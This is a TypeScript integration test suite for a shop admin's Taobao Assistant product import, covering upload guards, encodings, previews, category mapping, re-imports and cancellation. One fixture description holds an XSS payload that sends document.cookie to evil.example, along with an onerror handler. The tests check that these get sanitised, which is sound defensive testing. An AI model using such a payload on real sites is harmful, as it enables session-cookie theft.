import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { startTestApp, type TestApp } from '../../../tests/support/test-app.js';
import { adminHeaders } from '../../../tests/fixtures/admin-auth.js';
import { Product } from '../../../core/catalog/entities/product.entity.js';
import { Category } from '../../../core/catalog/entities/category.entity.js';
import { TaobaoProductLink } from '../entities/taobao-product-link.entity.js';
import { assistantCsv, COLUMNS_OLD, itemRecord, sampleShop, writeAssistantZip, type FixtureItem } from '../testing/fixtures.js';
import type { ImportPreview, ImportView } from '../services/import.service.js';
import { upload, waitForImport, workspace, type AdminHeaders } from './helpers.js';

const API = '/api/v1/admin/taobao-import';

/** The shop of these tests: 12 ordinary items plus the awkward ones merchants really have. */
function shop(opts: { priceBump?: number; extra?: number } = {}): FixtureItem[] {
  const items = sampleShop(12 + (opts.extra ?? 0), { priceBump: opts.priceBump });
  items.push({
    title: '带脚本的宝贝', price: '59.00', num: 4, numId: '690000000001', outerId: 'EVIL-1', sellerCids: ['1000'], pictures: ['evil1'],
    description: '<p>正常内容</p><script>document.location="https://evil.example/?c="+document.cookie</script><img src="https://img.alicdn.com/ok.jpg" onerror="alert(1)">',
  });
  items.push({ title: '缺图片的宝贝', price: '19.90', num: 2, numId: '690000000002', pictures: ['gone1', 'here1'] });
  items.push({ title: '价格写错的宝贝', price: '十九块', num: 2, numId: '690000000003' });
  items.push({
    title: '多规格带别名', price: '128.00', num: 9, numId: '690000000004', sellerCids: ['1000'], pictures: ['multi1'], propPictures: [['multi-blue', '1627207:28338']],
    skus: [
      { price: '128.00', quantity: 4, outerId: 'MULTI-BL-S', props: [['1627207', '28338'], ['20509', '28314']] },
      { price: '138.00', quantity: 0, outerId: 'MULTI-BL-XL', props: [['1627207', '28338'], ['20509', '28317']] },
      { price: '128.00', quantity: 5, outerId: 'MULTI-BK-S', props: [['1627207', '28341'], ['20509', '28314']] },
    ],
    aliases: [['1627207', '28338', '雾霾蓝'], ['20509', '28317', '加大码']],
  });
  return items;
}

describe('Taobao Assistant import through the admin', () => {
  let t: TestApp;
  let headers: AdminHeaders;
  const ws = workspace();
  let firstId: number;

  before(async () => {
    t = await startTestApp({ env: ws.env });
    headers = await adminHeaders(t);
  });
  after(async () => {
    await t?.close();
    ws.remove();
  });

  it('guards the upload: admin session and CSRF token, export files only', async () => {
    await t.http().post('/admin/taobao-import/upload?filename=a.zip').set('content-type', 'application/octet-stream').send(Buffer.from('PK')).expect(401);
    await t.http().post('/admin/taobao-import/upload?filename=a.zip').set('cookie', headers.cookie).set('content-type', 'application/octet-stream').send(Buffer.from('PK')).expect(403);
    const wrong = await upload(t, headers, 'photo.png', Buffer.from('x')).expect(400);
    assert.equal(wrong.body.code, 'unsupported_file');
    const notExport = await upload(t, headers, 'list.csv', Buffer.from('name,price\r\nfoo,1\r\n')).expect(400);
    assert.match(notExport.body.message, /not a Taobao Assistant export/);
  });

  it('uploads a zip (UTF-16LE CSV + .tbi pictures), previews it with warnings, maps categories, imports it with progress', async () => {
    const zip = join(ws.dir, 'shop.zip');
    const malformed = itemRecord({ title: '坏行', price: '1', num: 1 }, COLUMNS_OLD).split('\t').slice(0, 4).join('\t');
    writeAssistantZip(zip, shop(), { leaveOut: ['gone1'], rawAfter: { 3: malformed } });
    const res = await upload(t, headers, '宝贝导出.zip', readFileSync(zip)).expect(201);
    const view = res.body.import as ImportView;
    const preview = res.body.preview as ImportPreview;
    firstId = view.id;
    assert.equal(view.status, 'draft');
    assert.equal(preview.items, 17, '16 items + 1 malformed row');
    assert.equal(preview.importable, 15);
    assert.equal(preview.skipped, 2);
    assert.equal(preview.existing, 0);
    assert.equal(preview.format.encoding, 'UTF-16LE (BOM)');
    assert.equal(preview.images.missing, 1);
    assert.ok(preview.issues.some((i) => i.level === 'skip' && /十九块.*not a price/.test(i.message)));
    assert.ok(preview.issues.some((i) => i.level === 'skip' && /only 4 of 47 columns/.test(i.message)));
    assert.ok(preview.issues.some((i) => i.level === 'warn' && /scripts/.test(i.message)));
    assert.ok(preview.issues.some((i) => i.level === 'warn' && /not in the upload/.test(i.message)));
    assert.deepEqual(preview.categories.filter((c) => c.kind === 'shop').map((c) => c.taobaoId).sort(), ['1000', '1001', '1002', '1003', '1004']);
    const multi = preview.sample.find((s) => s.numId === '690000000004')!;
    assert.deepEqual(multi.specNames, ['颜色', '尺码']);
    assert.equal(multi.price, '¥128.00 – ¥138.00');

    // the admin pages render the preview and the mapping
    const page = await t.http().get(`/admin/taobao-import/${firstId}`).set('cookie', headers.cookie).expect(200);
    assert.match(page.text, /预览/);
    assert.match(page.text, /class="ti-map-select"/);
    const list = await t.http().get('/admin/taobao-import').set('cookie', headers.cookie).expect(200);
    assert.match(list.text, /宝贝导出\.zip/);

    // category mapping: create ours for shop category 1000, map Taobao category 162104 to an existing one
    const women = await t.ds.getRepository(Category).save(t.ds.getRepository(Category).create({ name: '女装', slug: 'women', parentId: null, imageUrl: null, sortOrder: 0, isVisible: true }));
    await t.http().put(`${API}/categories`).set(headers).send({ mappings: [{ kind: 'shop', taobaoId: '1000', createName: 'T恤' }, { kind: 'cid', taobaoId: '162104', categoryId: women.id }] }).expect(200);
    await t.http().put(`${API}/categories`).send({ mappings: [] }).expect(401);

    await t.http().post(`${API}/imports/${firstId}/start`).set('cookie', headers.cookie).send({ listing: 'listed' }).expect(403);
    const started = await t.http().post(`${API}/imports/${firstId}/start`).set(headers).send({ listing: 'listed' }).expect(200);
    assert.ok(['queued', 'running', 'done'].includes(started.body.status));
    await t.http().post(`${API}/imports/${firstId}/start`).set(headers).send({}).expect(409);
    const done = await waitForImport(t, headers, firstId);
    assert.equal(done.status, 'done', done.error ?? '');
    assert.equal(done.percent, 100);
    assert.deepEqual([done.done, done.created, done.updated, done.skipped, done.failed], [17, 15, 0, 2, 0]);
    assert.ok(done.warned >= 2, 'the script item and the item missing a picture are partly imported');
    assert.ok(done.imagesDone >= 30 && done.imagesFailed === 1, `${done.imagesDone} / ${done.imagesFailed}`);
  });

  it('lists the imported products in the storefront with images, variants, prices, stock and categories', async () => {
    const detail = await t.http().get('/api/v1/products/tb-690000000004').expect(200);
    assert.equal(detail.body.title, '多规格带别名');
    assert.deepEqual(detail.body.specNames, ['颜色', '尺码']);
    assert.deepEqual(detail.body.variants.map((v: { specText: string; price: number; stock: number; skuCode: string }) => [v.specText, v.price, v.stock, v.skuCode]), [
      ['雾霾蓝 / S', 12800, 4, 'MULTI-BL-S'],
      ['雾霾蓝 / 加大码', 13800, 0, 'MULTI-BL-XL'],
      ['黑色 / S', 12800, 5, 'MULTI-BK-S'],
    ]);
    assert.equal(detail.body.category.name, 'T恤');
    assert.match(detail.body.images[0], /^\/media\/taobao\/[0-9a-f]{2}\/[0-9a-f]{32}\.jpg$/);
    assert.match(detail.body.variants[0].imageUrl, /^\/media\/taobao\//);
    const img = await t.http().get(detail.body.images[0]).expect(200);
    assert.equal(img.headers['content-type'], 'image/jpeg');

    const plain = await t.http().get('/api/v1/products/tb-600000000003').expect(200);
    assert.equal(plain.body.variants.length, 1);
    assert.equal(plain.body.variants[0].price, 2190);
    assert.equal(plain.body.variants[0].stock, 12);
    assert.equal(plain.body.category.name, '女装', 'Taobao category 162104 → 女装 (its shop category 1002 is not mapped)');
    const first = await t.http().get('/api/v1/products/tb-600000000001').expect(200);
    assert.equal(first.body.category.name, 'T恤', 'a mapped shop category wins over the Taobao category');

    const evil = await t.http().get('/api/v1/products/tb-690000000001').expect(200);
    assert.doesNotMatch(evil.body.descriptionHtml, /script|onerror|evil\.example/);
    assert.match(evil.body.descriptionHtml, /正常内容/);

    const page = await t.http().get('/products/tb-690000000004').expect(200);
    assert.match(page.text, /多规格带别名/);
    const listed = await t.http().get('/api/v1/products?pageSize=100').expect(200);
    assert.equal(listed.body.total, 15);
  });

  it('reports every skipped or partly imported row with its reason, as CSV', async () => {
    const rows = await t.http().get(`${API}/imports/${firstId}/rows?problems=true`).set(headers).expect(200);
    const byNum = new Map(rows.body.items.map((r: { numId: string | null; rowNo: number }) => [r.numId ?? `row${r.rowNo}`, r]));
    assert.equal((byNum.get('690000000003') as { outcome: string }).outcome, 'skipped');
    assert.equal((byNum.get('690000000002') as { outcome: string; warnings: boolean }).warnings, true);
    const csv = await t.http().get(`${API}/imports/${firstId}/results.csv`).set(headers).expect(200);
    assert.match(csv.headers['content-type'], /text\/csv/);
    assert.match(csv.headers['content-disposition'], /attachment; filename="taobao-import-\d+-problems\.csv"/);
    const lines = csv.text.replace(/^\uFEFF/, '').trim().split('\r\n');
    assert.equal(lines[0], 'row,outcome,warnings,num_id,outer_id,title,product_id,message');
    assert.ok(lines.some((l) => /skipped.*690000000003.*not a price/.test(l)));
    assert.ok(lines.some((l) => /^8,skipped,.*only 4 of 47 columns/.test(l)), 'the malformed row, by its row number in the file');
    assert.ok(lines.some((l) => /created,yes,690000000002.*gone1\.tbi is not in the upload/.test(l)));
    const all = await t.http().get(`${API}/imports/${firstId}/results.csv?all=1`).set(headers).expect(200);
    assert.equal(all.text.trim().split('\r\n').length, 1 + 17);
  });

  it('re-importing the shop updates the products (by item id or SKU code) instead of duplicating them, with the mapping remembered', async () => {
    const items = shop({ priceBump: 100, extra: 1 });
    // an item that lost its Taobao id (re-created offline) is still found by its SKU codes
    const multi = items.find((i) => i.numId === '690000000004')!;
    multi.numId = undefined;
    multi.skus![0].quantity = 40;
    const zip = join(ws.dir, 'shop2.zip');
    writeAssistantZip(zip, items);
    const res = await upload(t, headers, 'again.zip', readFileSync(zip)).expect(201);
    const preview = res.body.preview as ImportPreview;
    assert.equal(preview.existing, 14, 'items imported before are recognised in the preview');
    const id = res.body.import.id as number;
    await t.http().post(`${API}/imports/${id}/start`).set(headers).send({}).expect(200);
    const done = await waitForImport(t, headers, id);
    assert.equal(done.status, 'done', done.error ?? '');
    assert.deepEqual([done.created, done.updated, done.skipped], [1, 15, 1]);
    assert.equal(await t.ds.getRepository(Product).count(), 16, 'one new product, no duplicates');
    assert.equal(await t.ds.getRepository(TaobaoProductLink).count(), 16);
    const plain = await t.http().get('/api/v1/products/tb-600000000003').expect(200);
    assert.equal(plain.body.variants[0].price, 2290, 'price updated');
    assert.equal(plain.body.category.name, '女装', 'mapping remembered');
    const m = await t.http().get('/api/v1/products/tb-690000000004').expect(200);
    assert.equal(m.body.variants[0].stock, 40);
    assert.equal(m.body.variants.length, 3);
  });

  it('imports a GBK CSV on its own (no pictures), and cancels a running import cleanly', async () => {
    const gbk = assistantCsv(sampleShop(3, { startNumId: 620000000001 }), { encoding: 'gbk' });
    const res = await upload(t, headers, 'gbk.csv', gbk).expect(201);
    assert.match(res.body.preview.format.encoding, /GBK/);
    await t.http().post(`${API}/imports/${res.body.import.id}/start`).set(headers).send({}).expect(200);
    const done = await waitForImport(t, headers, res.body.import.id);
    assert.equal(done.created, 3);
    assert.equal(done.warned, 3, 'no pictures in a CSV upload');
    assert.equal((await t.http().get('/api/v1/products/tb-620000000001').expect(200)).body.title, '测试宝贝 1 纯棉T恤');

    const big = await upload(t, headers, 'big.csv', assistantCsv(sampleShop(400, { startNumId: 630000000001, picturesPerItem: 0 }))).expect(201);
    const id = big.body.import.id as number;
    await t.http().post(`${API}/imports/${id}/start`).set(headers).send({}).expect(200);
    await t.http().post(`${API}/imports/${id}/cancel`).set(headers).send({}).expect(200);
    const stopped = await waitForImport(t, headers, id);
    assert.equal(stopped.status, 'cancelled');
    assert.ok(stopped.done < 400, `stopped at ${stopped.done}`);
    const links = await t.ds.getRepository(TaobaoProductLink).count({ where: { lastImportId: id } });
    assert.ok(links >= stopped.done, 'rows imported before the cancel stay');
    await t.http().post(`${API}/imports/${id}/cancel`).set(headers).send({}).expect(409);
  });
});
